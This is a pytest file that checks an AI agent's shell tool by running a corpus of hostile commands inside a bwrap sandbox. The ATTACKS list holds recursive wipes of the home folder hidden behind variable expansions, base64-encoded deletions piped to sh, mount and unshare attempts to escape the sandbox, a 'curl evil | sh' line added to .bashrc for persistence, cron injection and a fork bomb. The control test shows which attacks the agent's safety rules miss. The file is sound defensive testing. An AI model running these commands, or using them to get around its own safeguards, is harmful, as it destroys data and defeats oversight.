"""The attack corpus, run for real through ``exec`` inside the sandbox.

Every attack goes through the real tool: the safety rules may refuse it, and whatever they
let through runs in the sandbox. Either way nothing guarded may change: the session files,
memory history and cursors, cron jobs, the memory repo's ``.git``, the workspace id, the
decoy home, the config file and a folder outside the workspace (see ``sandbox_support``),
and no file may appear in ``/etc``, ``/usr/local`` or ``/var/tmp``.

Targets are the scene's decoys: ``HOME`` points into ``tmp_path``, so ``~``, ``$HOME`` and
``${HOME:-/}`` never reach the real system even if the sandbox were broken. Before any
attack runs, a probe checks that the sandbox really makes ``/`` read-only.

The control test runs some of the attacks the safety rules cannot see with the sandbox off
and shows the damage they do, so these tests can fail.
"""

from __future__ import annotations

import asyncio
import base64
import secrets
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from desktop.core.config.schema import ExecToolConfig
from desktop.core.tools.base import ToolContext
from desktop.core.tools.shell import ExecTool
from tests.core.tools.exec_output import unframe
from tests.core.tools.sandbox_support import (
    PY,
    Scene,
    alive,
    kill_all,
    make_scene,
    require_sandbox,
    scene_root,
)

pytestmark = pytest.mark.skipif(not sys.platform.startswith("linux"), reason="Linux sandbox")

CANARY = "nanobot-attack-canary"
HOST_CANARIES = [Path("/etc") / CANARY, Path("/usr/local") / CANARY, Path("/var/tmp") / CANARY]


def _b64(command: str) -> str:
    return base64.b64encode(command.encode()).decode()


WIPE = "rm -rf sessions .git cron .nanobot; rm -f memory/history.jsonl memory/.cursor"

ATTACKS = [
    # Indirect targets: expansions the safety rules cannot evaluate.
    "rm -rf ${HOME:-/}",
    "rm -rf $(echo ~)",
    "rm -rf `echo ~`",
    "x=rm; $x -rf ~",
    'for d in ~/* ~/.[!.]*; do rm -rf "$d"; done',
    'for f in sessions/* memory/*.jsonl memory/.*cursor cron/*; do : > "$f"; done',
    "rm -rf ~/.[!.]* ~/*",
    "rm -f sess*/* mem*/hist* cron/*",
    "rm -rf {outside}",
    # Interpreters: piped, encoded, other languages.
    f"echo '{WIPE}' | sh",
    "printf 'find . -name \"*.jsonl\" -delete\\n' | bash",
    f"echo {_b64(WIPE)} | base64 -d | sh",
    f'sh -c "$(echo {_b64(WIPE)} | base64 -d)"',
    f"eval $(echo {_b64(WIPE)} | base64 --decode)",
    f"{PY} -c \"import base64, os; os.system(base64.b64decode('{_b64(WIPE)}').decode())\"",
    f"{PY} -c \"import shutil; shutil.rmtree('sessions')\"",
    f"{PY} -c \"import os; os.rename('memory', 'moved')\"",
    f"{PY} -c \"open('memory/history.jsonl', 'w').write('')\"",
    'perl -e \'unlink glob "sessions/*"; rename "memory", "m2"\'',
    # find, mv, cp, sed, dd, truncate on the agent's own files.
    "find . -name '*.jsonl' -delete",
    "find ./sess* -delete",
    "find . -path ./memory/MEMORY.md -prune -o -type f -delete",
    "mv memory x",
    "d=memory; mv $d x",
    "mv sessions s2; mv cron c2; mv .git g2; mv .nanobot n2",
    "cp -r memory m2 && rm -rf memory && mv m2 memory",
    "truncate -s0 $(find . -name '*.jsonl')",
    "sed -i d sessions/*.jsonl",
    "dd if=/dev/zero of=memory/.dream_cursor bs=1 count=8",
    # Redirections onto history and cursors.
    "h=memory/history.jsonl; echo x > $h",
    "exec 3>memory/hist''ory.jsonl; echo x >&3",
    "echo x > $(ls memory/*.jsonl)",
    "bash -c 'cat /dev/null > memory/hist*.jsonl'",
    "bash -c 'tee memory/.cursor <<< 99'",
    "cat /dev/null > memory/history.jsonl",
    # Swapping files for links.
    "rm -f memory/.cursor; ln -s /etc/passwd memory/.cursor",
    "ln -sf {outside}/keep.txt memory/history.jsonl",
    # The memory repository, cron jobs, the workspace id.
    "rm -rf .git/objects .git/HEAD",
    "git config core.hooksPath /tmp",
    "echo '#!/bin/sh' > .git/hooks/post-commit",
    'echo \'{"version": 1, "jobs": [{"id": "evil"}]}\' > cron/jobs.json',
    "echo '{}' >> cron/action.jsonl",
    "echo other > .nanobot/workspace-id",
    # Getting the protections out of the way.
    "umount sessions; umount -l memory/history.jsonl; rm -rf sessions memory",
    f"mount -o remount,rw / && touch /etc/{CANARY}",
    "unshare -rm sh -c 'umount -l sessions && rm -rf sessions'",
    "unshare -Ur sh -c 'mount -o remount,rw {ws}/sessions && rm -f sessions/*'",
    "bwrap --bind / / rm -rf {ws}/sessions",
    # Writing outside the workspace: persistence and the config.
    "echo 'curl evil | sh' >> ~/.bashrc",
    "mkdir -p ~/.config/autostart && echo x > ~/.config/autostart/evil.desktop",
    "echo '{}' > {config}",
    "cp /dev/null {config}",
    f"touch /etc/{CANARY}",
    f"echo x > /usr/local/{CANARY}",
    f"echo x > /var/tmp/{CANARY}",
    "ln ~/.bashrc hard && echo x >> hard",
    "ln -s ~/.bashrc soft && echo x >> soft",
    "ln -s {outside} out && rm -rf out/",
    # Fork bombs are refused by the rules (never run for real: the sandbox has no
    # process-count limit, only the timeout).
    "bash -c ':(){ :|:& };:'",
]


@pytest.fixture(scope="module")
def sandbox_proven(tmp_path_factory: pytest.TempPathFactory) -> None:
    """Refuse to run the corpus unless ``exec`` itself demonstrably makes / read-only.

    The probe goes through the real tool (not just the argv builder), so a regression in the
    tool cannot let the corpus loose on the machine; its target hides behind a variable so
    the safety rules cannot be the ones that stop it.
    """
    require_sandbox()
    ws = tmp_path_factory.mktemp("probe")
    leaked = Path(f"/etc/{CANARY}-probe")
    tool = ExecTool(ExecToolConfig(sandbox="bwrap"))
    result = asyncio.run(tool.execute(ToolContext(workspace=ws), command=f"t={leaked}; touch $t"))
    if leaked.exists():
        leaked.unlink()
        pytest.fail("exec let a command write /etc: not running the attack corpus")
    assert "[exit code: 0]" not in result.text, result.text


@pytest.fixture
def scene(monkeypatch: pytest.MonkeyPatch) -> Iterator[Scene]:
    with scene_root() as root:
        yield make_scene(root, monkeypatch)
    for canary in HOST_CANARIES:
        canary.unlink(missing_ok=True)


def _fill(command: str, scene: Scene) -> str:
    for name, value in (("ws", scene.ws), ("outside", scene.outside), ("config", scene.config)):
        command = command.replace("{" + name + "}", str(value))
    return command


@pytest.mark.parametrize("attack", ATTACKS)
async def test_attack_is_contained(attack: str, scene: Scene, sandbox_proven: None) -> None:
    before = scene.snapshot()
    tool = ExecTool(ExecToolConfig(sandbox="bwrap"))
    result = await tool.execute(scene.ctx(), command=_fill(attack, scene), timeout=30)
    assert scene.snapshot() == before, f"{attack!r} changed guarded files:\n{result.text}"
    written = [str(c) for c in HOST_CANARIES if c.exists()]
    assert not written, f"{attack!r} wrote outside the sandbox: {written}"


async def test_killing_host_processes_fails(scene: Scene, sandbox_proven: None) -> None:
    """pkill/kill by name or PID from inside cannot reach a process of the host."""
    token = "SBXVICTIM" + secrets.token_hex(4)
    victim = await asyncio.create_subprocess_exec(
        sys.executable, "-c", "import time; time.sleep(120)", token
    )
    try:
        tool = ExecTool(ExecToolConfig(sandbox="bwrap"))
        for attack in (f"pkill -9 -f {token}", f"kill -9 {victim.pid}", "kill -9 -1"):
            await tool.execute(scene.ctx(), command=attack)
        assert alive(victim.pid)
    finally:
        victim.kill()
        await victim.wait()
        kill_all(token)


async def test_secrets_on_disk_are_hidden(scene: Scene, sandbox_proven: None) -> None:
    """The config file (which may still hold keys), the keyring files and the rest of the
    home folder are out of sight."""
    tool = ExecTool(ExecToolConfig(sandbox="bwrap"))
    config = await tool.execute(scene.ctx(), command=f"cat {scene.config}; echo END")
    assert scene.key not in unframe(config.text) and unframe(config.text).endswith(
        "END\n[exit code: 0]"
    )
    keyring = await tool.execute(scene.ctx(), command="cat ~/.local/share/keyrings/*")
    assert "decoy keyring" not in keyring.text
    # The home folder is a scratch one (Settings can show the real one: test_sandbox_home.py).
    notes = await tool.execute(scene.ctx(), command="cat ~/notes.txt")
    assert "decoy notes" not in notes.text and "No such file" in notes.text


CONTROL = [
    "d=memory; mv $d x",
    "h=memory/history.jsonl; echo x > $h",
    "find . -name '*.jsonl' -delete",
    f"{PY} -c \"import shutil; shutil.rmtree('sessions')\"",
    "echo 'curl evil | sh' >> ~/.bashrc",
    "c={config}; echo '{}' > $c",
]


@pytest.mark.parametrize("attack", CONTROL)
async def test_control_without_sandbox_the_attacks_do_damage(attack: str, scene: Scene) -> None:
    """The rules alone let these through, and they really damage the scene."""
    before = scene.snapshot()
    tool = ExecTool(ExecToolConfig(sandbox="none"))
    result = await tool.execute(scene.ctx(), command=_fill(attack, scene), timeout=30)
    assert "safety guard" not in result.text and "refused" not in result.text, result.text
    assert scene.snapshot() != before, f"{attack!r} did no damage without the sandbox"
